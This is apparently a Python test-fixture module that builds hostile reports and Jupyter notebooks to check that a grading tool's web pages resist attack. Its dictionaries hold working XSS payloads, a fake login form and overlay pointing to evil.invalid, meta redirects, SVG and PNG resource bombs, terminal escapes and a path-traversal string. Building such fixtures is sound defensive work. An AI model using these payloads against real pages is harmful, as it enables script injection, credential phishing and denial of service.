"""The worst class: texts, notebooks and reports that attack whoever opens a page about them.

Each attack tries to leave a mark that `harness.require_untouched` looks for: `window.pwned`, another title, a dialog, a
request, another place, an element that no page of ours has, or something that covers the page.

TEXTS      by name, for every field of a report and every text of a notebook
DATA       by name, the MIME bundles of outputs
CELLS      by name, whole cells
notebook   of cells, nbformat 4 as plain JSON
heavy      by name, notebooks that are large in one way
"""

from __future__ import annotations

import base64
import itertools
import json
import struct
import zlib
from collections.abc import Callable, Iterable
from typing import Any

from referee.report import (
    CellRun,
    CellStatus,
    CheckResult,
    Environment,
    Evidence,
    Exceeded,
    Fault,
    GradedCell,
    LayerRow,
    Note,
    NotebookReport,
    Outcome,
    Report,
    Timings,
    Verdict,
)
from tests.browser import pictures

Json = dict[str, Any]
CODE = "window.pwned=1;document.title='pwned'"
AWAY = "https://evil.invalid/"

#: A text that breaks out of whatever it may stand in, and then runs.
BREAKOUT = f"]]>--></script></style></textarea></title></pre></template></noscript></svg></math><script>{CODE}</script>"
TEXTS = {
    "script": f"<script>{CODE}</script>",
    "script_of_another": f"<ScRiPt/x src={AWAY}x.js></sCrIpT >",
    "breakout": BREAKOUT,
    "image": f'<img src=x onerror="{CODE}">',
    "drawing": f'<svg onload="{CODE}"><animate onbegin="{CODE}" attributeName=x dur=1s></svg>',
    "opens": f'<details open ontoggle="{CODE}"><input autofocus onfocus="{CODE}"></details>',
    "double_quoted": f'" autofocus onfocus="{CODE}" style="position:fixed;inset:0" x="',
    "single_quoted": f"' autofocus onfocus='{CODE}' style='position:fixed;inset:0' x='",
    "unquoted": f" autofocus onfocus={CODE} ",
    "url": f"javascript:{CODE}",
    "spaced_url": f"java\tscript:{CODE}",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "entities": "&lt;script&gt;&#60;script&#62;&amp;lt;",
    "style": f"<style>@import '{AWAY}x.css'; body {{ display: none }} h1 {{ visibility: hidden }}</style>",
    "style_out": "</style><style>*{display:none!important}</style>",
    "css": f"red;background:url({AWAY});position:fixed;inset:0}}body{{display:none}}",
    "covers": f'<div style="position:fixed;inset:0;z-index:9;background:#fff"><a href="{AWAY}">Log in again</a></div>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": f'<base href="{AWAY}" target="_blank">',
    "form": f'<form action="{AWAY}"><input name="password" type="password" autofocus><button>Log in</button></form>',
    "frame": f'<iframe src="javascript:{CODE}" srcdoc="<script>parent.window.pwned=1</script>"></iframe>',
    "object": f'<object data="{AWAY}"></object><embed src="{AWAY}"><link rel="stylesheet" href="{AWAY}">',
    "clobbers": '<a id="checks" name="cookie"></a><img name="getElementById"><form id="location"></form>',
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x1b]8;;https://evil.invalid/\x07link\x1b]8;;\x07\x1b[2J\x1b[1A\x9b2K",
    "controls": "".join(map(chr, (*range(32), *range(127, 160)))),
    "overrides": "\u202egpj.exe\u202c \u2066left\u2069 \u200f\u061c\u200e \u202d",
    "arabic": "محمد الأمين بن يوسف",
    "hebrew": "נועה לוי־כהן",
    "mixed": "abc אבג 123 نص def",
    "wide": "王小明 さくら 김민준 👩\u200d👩\u200d👧 🏳️\u200d🌈",
    "zalgo": "".join(f"{letter}{chr(0x300 + n % 112) * 20}" for n, letter in enumerate("zalgo comes")),
    "halves": "half \ud83d and \udc00 of a pair",
    "noncharacters": "\ufeff\ufffe\uffff\U0001ffff\U000e0001\U000e0041\u2028\u2029\u00ad\u115f",
    "long": "x" * 5_000,
    "long_arabic": "م" * 5_000,
    "path": "../../../etc/passwd\x00.html",
}


def every(text: str) -> CheckResult:
    """A failed check that says this text in each of its fields."""
    row = LayerRow(state="different", expected=text, actual=text, differs=text)
    evidence = Evidence(
        words=text,
        hint=text,
        expected=text,
        actual=f"{text}\n{text}",
        tolerance=text,
        misconception=text,
        table=(row,),
        log=text,
        pictures=pictures.every(text)[2:],
    )
    verdict = Verdict(outcome=Outcome.FAILED, fault=Fault.STUDENT)
    return CheckResult(
        check=text, name=text, sentence=text, weight=1.0, public=True, verdict=verdict, evidence=evidence
    )


def report(texts: Iterable[str] = TEXTS.values(), student: str = BREAKOUT) -> Report:
    """A report of one notebook that says each of these texts wherever a text can stand."""
    texts = list(texts)
    book = NotebookReport(
        notebook=texts[0],
        fingerprint=texts[0],
        environment=Environment(
            referee=texts[0],
            python=texts[0],
            platform=texts[0],
            packages={text: text for text in texts},
            isolation=tuple(texts),
        ),
        parameters={text: text for text in texts},
        graded=tuple(_graded(text) for text in texts),
        cells=tuple(_run(number, text) for number, text in enumerate(texts)),
        notes=tuple(Note(code=text, words=text) for text in texts),
        timings=Timings(
            total=1e300,
            cells={"0": 1e-300, texts[0]: 2.0},
            checks=dict.fromkeys(texts, 1.0),
            exceeded=tuple(Exceeded(limit=text, allowed=1, used=1e308, cell=2**40) for text in texts),
            kernel=texts[0],
        ),
    )
    return Report(student=student, assignment=texts[0], notebooks=(book,), course=texts[0])


def _graded(text: str) -> GradedCell:
    return GradedCell(
        grade_id=text, kind="check", points=1.0, earned=0.0, score=0.0, words=text, results=(every(text),)
    )


def _run(number: int, text: str) -> CellRun:
    return CellRun(index=number, grade_id=text, status=CellStatus.RAISED, error=text, words=text, traceback=text)


def png(width: int, height: int, *, says: tuple[int, int] | None = None) -> str:
    """A PNG of this size in base64, all black; `says` is the size that its header has instead."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", *(says or (width, height)), 1, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" * (1 + (width + 7) // 8)) * height)
    image = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(image).decode("ascii")


def svg(content: str, attributes: str = "") -> str:
    """A drawing with this content."""
    start = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
    return f"{start} {attributes}>{content}</svg>"


def _bomb() -> str:
    """A drawing that draws itself ten times over, nine times in turn."""
    doubled = (
        f'<g id="a{n + 1}">' + f'<use xlink:href="#a{n}"/>' * 10 + "</g>"  # a billion in all
        for n in range(9)
    )
    return svg('<rect id="a0" width="9" height="9"/>' + "".join(doubled))


DATA: dict[str, Json] = {
    **{f"html_{name}": {"text/html": text} for name, text in TEXTS.items()},
    "html_nested": {"text/html": "<div>" * 5_000 + "deep"},
    "html_spans": {"text/html": "<table><tr><td colspan=99999999 rowspan=99999999>x</td></tr></table>"},
    "html_mutation": {
        "text/html": f"<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={CODE}&gt;">'
    },
    "html_noscript": {"text/html": f'<noscript><p title="</noscript><img src=x onerror={CODE}>"></noscript>'},
    "html_link": {"text/html": f'<a href="java&#10;script:{CODE}" target=_top ping="{AWAY}">a link</a>'},
    "html_data": {"text/html": f'<a href="data:text/html,<script>{CODE}</script>">data</a>'},
    "svg_script": {"image/svg+xml": svg(f"<script>{CODE}</script><rect width='9' height='9'/>")},
    "svg_onload": {"image/svg+xml": svg(f"<rect width='9' height='9' onclick='{CODE}'/>", f'onload="{CODE}"')},
    "svg_loads": {"image/svg+xml": svg(f'<image xlink:href="{AWAY}x.png" width="9" height="9"/>')},
    "svg_styles": {
        "image/svg+xml": svg(f"<style>@import url({AWAY}x.css); *{{fill:url({AWAY}#x)}}</style><path d='M0 0h9v9z'/>")
    },
    "svg_frame": {
        "image/svg+xml": svg(
            f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}"/></foreignObject>'
        )
    },
    "svg_entities": {"image/svg+xml": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>' + svg("&b;")},
    "svg_bomb": {"image/svg+xml": _bomb()},
    "svg_deep": {"image/svg+xml": svg("<g>" * 15_000 + "</g>" * 15_000)},
    "svg_vast": {"image/svg+xml": svg("<rect width='9' height='9'/>", 'width="1e9" height="1e9"')},
    "svg_breakout": {"image/svg+xml": BREAKOUT},
    "png": {"image/png": png(8, 8), "text/plain": BREAKOUT},
    "png_vast": {"image/png": png(30_000, 30_000)},
    "png_lies": {"image/png": png(8, 8, says=(2_000_000_000, 2_000_000_000))},
    "png_breakout": {"image/png": f'"><script>{CODE}</script>'},
    "png_broken": {"image/png": base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode("ascii")},
    "png_no_text": {"image/png": {"a": [1, None]}},
    "jpeg_is_html": {"image/jpeg": base64.b64encode(TEXTS["script"].encode()).decode("ascii")},
    "latex": {"text/latex": f"$\\href{{javascript:{CODE}}}{{x}} \\def\\x{{\\x\\x}}\\x$ {BREAKOUT}"},
    "markdown": {
        "text/markdown": f"[a](javascript:{CODE}) [b](data:text/html,x) ![c]({AWAY}c.png) <{AWAY}> {BREAKOUT}\n\n"
        f'[d]: javascript:{CODE}\n[e](<java\nscript:x> "t" onclick={CODE})'
    },
    "markdown_nested": {"text/markdown": "> " * 5_000 + "*" * 5_000 + "[" * 5_000},
    "javascript": {"application/javascript": CODE},
    "json": {"application/json": {"a": [BREAKOUT] * 3, "__proto__": {"x": 1}}},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": BREAKOUT, "version_major": 2}},
    "pdf": {"application/pdf": base64.b64encode(b"%PDF-1.7").decode("ascii")},
    "kinds": {BREAKOUT: BREAKOUT, "text/": "", "": None, "x" * 5_000: 1},
    "no_text": {"text/html": [1, None, {"a": []}], "text/plain": {"a": 1}},
}


def code(source: str, *outputs: Json, **metadata: Any) -> Json:
    """A code cell that ran."""
    return {"cell_type": "code", "source": source, "metadata": metadata, "execution_count": 1, "outputs": [*outputs]}


def shown(data: Json) -> Json:
    """An output of a MIME bundle."""
    return {"output_type": "display_data", "data": data, "metadata": {}}


def stream(text: Any, name: Any = "stdout") -> Json:
    """A printed text."""
    return {"output_type": "stream", "name": name, "text": text}


def raised(text: str) -> Json:
    """An exception whose every part is this text."""
    return {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]}


def marks(text: str) -> Json:
    """What nbgrader writes into a cell, with a name like this."""
    return {"schema_version": 3, "grade_id": text, "grade": True, "solution": False, "locked": True, "points": 1}


CELLS: dict[str, list[Json]] = {
    "outputs": [code("display(x)", shown(data)) for data in DATA.values()],
    "printed": [code(text, stream(text), stream([text, text], "stderr"), raised(text)) for text in TEXTS.values()],
    "markdown": [{"cell_type": "markdown", "source": text, "metadata": {}} for text in TEXTS.values()],
    "names": [code("x", nbgrader=marks(text), tags=[text], collapsed=text) for text in TEXTS.values()],
    "odd": [
        {},
        {"cell_type": "code"},
        {"cell_type": BREAKOUT, "source": BREAKOUT},
        {"cell_type": "raw", "source": BREAKOUT, "metadata": {"format": "text/html"}},
        {"cell_type": "code", "source": {"a": 1}, "metadata": [], "outputs": {"a": 1}},
        {"cell_type": "code", "source": [1, None, BREAKOUT], "metadata": {"nbgrader": []}, "outputs": [1, None, []]},
        {"cell_type": "code", "source": "x", "outputs": [{"output_type": BREAKOUT}, stream({"a": 1}, ["b"]), {}]},
        {"cell_type": "markdown", "source": "![x](attachment:x.svg)", "attachments": {"x.svg": DATA["svg_onload"]}},
        {"cell_type": "code", "source": "x", "execution_count": BREAKOUT, "id": BREAKOUT, "outputs": []},
    ],
}


def notebook(cells: Iterable[Json]) -> Json:
    """A notebook of these cells, as JSON is read."""
    metadata = {"kernelspec": {"name": BREAKOUT, "display_name": BREAKOUT, "language": BREAKOUT}, "title": BREAKOUT}
    metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {BREAKOUT: BREAKOUT}}}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": [*cells]}


def worst() -> Json:
    """All attacks in one notebook."""
    return notebook(itertools.chain(*CELLS.values()))


HEAVY: dict[str, Callable[[], Json]] = {
    "ten_megabytes_printed": lambda: notebook([code("print(x)", stream("0123456789 abcdef\n" * 600_000))]),
    "ten_megabytes_of_html": lambda: notebook([code("x", shown({"text/html": "<b>b</b> " * 1_200_000}))]),
    "ten_megabytes_in_one_line": lambda: notebook([code("print(x)", stream("<" * 10_000_000))]),
    "ten_megabytes_of_source": lambda: notebook([code("x = '''" + "(" * 10_000_000)]),
    "five_thousand_cells": lambda: notebook([code(f"x = {n}", stream(str(n))) for n in range(5_000)]),
    "five_thousand_outputs": lambda: notebook([code("x", *(stream(f"{n}\n") for n in range(5_000)))]),
    "a_thousand_images": lambda: notebook([code("x", *(shown(DATA["png"]) for _ in range(1_000)))]),
    "large_images": lambda: notebook([code("x", shown({"image/png": png(4_000, 3_000)})) for _ in range(20)]),
    "wide_table": lambda: notebook([code("x", shown({"text/html": f"<table><tr>{'<td>cell' * 2_000}</table>"}))]),
    "deep_markdown": lambda: notebook([{"cell_type": "markdown", "source": "- " * 9_000, "metadata": {}}]),
    "deep_brackets": lambda: notebook([code("[" * 15_000), {"cell_type": "markdown", "source": "[" * 15_000}]),
    "all_headings": lambda: notebook([{"cell_type": "markdown", "source": "# a\n###### b\n" * 100, "metadata": {}}]),
}


def plain_json(executed: Json) -> Json:
    """The notebook as it comes back from a file: half surrogates included, as JSON writes them."""
    return dict(json.loads(json.dumps(executed)))
